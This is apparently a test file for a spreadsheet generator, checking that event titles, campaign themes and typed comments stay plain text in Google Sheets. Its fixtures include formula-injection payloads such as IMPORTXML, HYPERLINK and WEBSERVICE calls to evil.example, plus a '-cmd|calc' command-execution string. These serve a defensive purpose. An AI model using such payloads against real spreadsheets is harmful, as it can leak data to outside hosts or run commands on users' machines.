// Text from events, campaign themes and typed entries stays text in Sheets, whatever it looks like.
import { describe, expect, it } from 'vitest';
import { AppsScriptRuntime } from '../helpers/apps-script-runtime';
import { col, row, rowKeys } from '../helpers/apps-script/inspect';

const HOSTILE = ['=HYPERLINK("http://evil.example","click")', '+1', '-1', '2026-01-01', '@SUM(A1)', "'quoted", '=1+1', '1,5', 'TRUE', '50%', '-cmd|calc'];

function allCells(rt: AppsScriptRuntime) {
  const values: unknown[] = [];
  const formulas: string[] = [];
  for (const sheet of rt.spreadsheet.sheets) {
    const r = sheet.getLastRow(), c = sheet.getLastColumn();
    if (!r || !c) continue;
    values.push(...sheet.getRange(1, 1, r, c).getValues().flat());
    formulas.push(...sheet.getRange(1, 1, r, c).getFormulas().flat().filter(Boolean));
  }
  return { values, formulas };
}

describe('hostile text', () => {
  it('event titles and the campaign theme are written as text, never as formulas or numbers', () => {
    const rt = new AppsScriptRuntime({ userLocale: 'en', now: '2026-11-10T09:00:00Z' });
    const events = HOSTILE.map((title, i) => ({ type: 'webinar', date: `2026-11-${String(10 + i).padStart(2, '0')}`, title }));
    const reply = rt.call('generateSheets', { template: 'social-media-content', month: '2026-11', lang: 'en', events, campaign: { theme: '=IMPORTXML("http://evil.example","//a")' } });
    expect(reply.ok).toBe(true);
    const { values, formulas } = allCells(rt);
    const texts = values.filter((v): v is string => typeof v === 'string');
    for (const title of HOSTILE) expect(texts.some((t) => t.includes(title)), title).toBe(true);
    expect(texts.some((t) => t.includes('=IMPORTXML("http://evil.example"'))).toBe(true);
    // Only the core's own formulas are formulas.
    expect(formulas.filter((f) => /evil|cmd|HYPERLINK|IMPORTXML|SUM\(A1\)/.test(f))).toEqual([]);
    // Nothing turned into a number, boolean or date on the way in.
    for (const v of values) expect(['string', 'number', 'boolean'].includes(typeof v) || Object.prototype.toString.call(v) === '[object Date]').toBe(true);
    expect(values).not.toContain(true);
  });

  it('text the manager typed (apostrophe-protected) survives regeneration as text', () => {
    const rt = new AppsScriptRuntime({ userLocale: 'en', now: '2026-11-10T09:00:00Z' });
    const args = { template: 'social-media-content', month: '2026-11', lang: 'en', events: [] };
    rt.call('generateSheets', args);
    const K = 'KPI results 2026-11';
    const cell = () => rt.sheet(K).getRange(row(rt, K, 'followers-total'), col(rt, K, 'comment'));
    cell().setValue("'=WEBSERVICE(\"http://evil.example\")");
    expect(cell().getValue()).toBe('=WEBSERVICE("http://evil.example")');
    rt.call('generateSheets', args);
    expect(cell().getValue()).toBe('=WEBSERVICE("http://evil.example")');
    expect(cell().getFormula()).toBe('');
  });

  it('keeps row keys and sheet names made of odd characters intact', () => {
    const rt = new AppsScriptRuntime({ userLocale: 'en', now: '2026-11-10T09:00:00Z' });
    rt.call('generateSheets', { template: 'social-media-content', month: '2026-11', lang: 'en', events: [{ type: 'other', date: '2026-11-12', title: "Q&A: 'Why [us]?' / =now" }] });
    const keys = rowKeys(rt, 'Activity plan 2026-11');
    // Routine work is one row each now, so the month is short; the odd event title must come back whole.
    expect(keys).toContain("event|other|2026-11-12|Q&A: 'Why [us]?' / =now");
    for (const k of keys) expect(typeof k).toBe('string');
  });
});
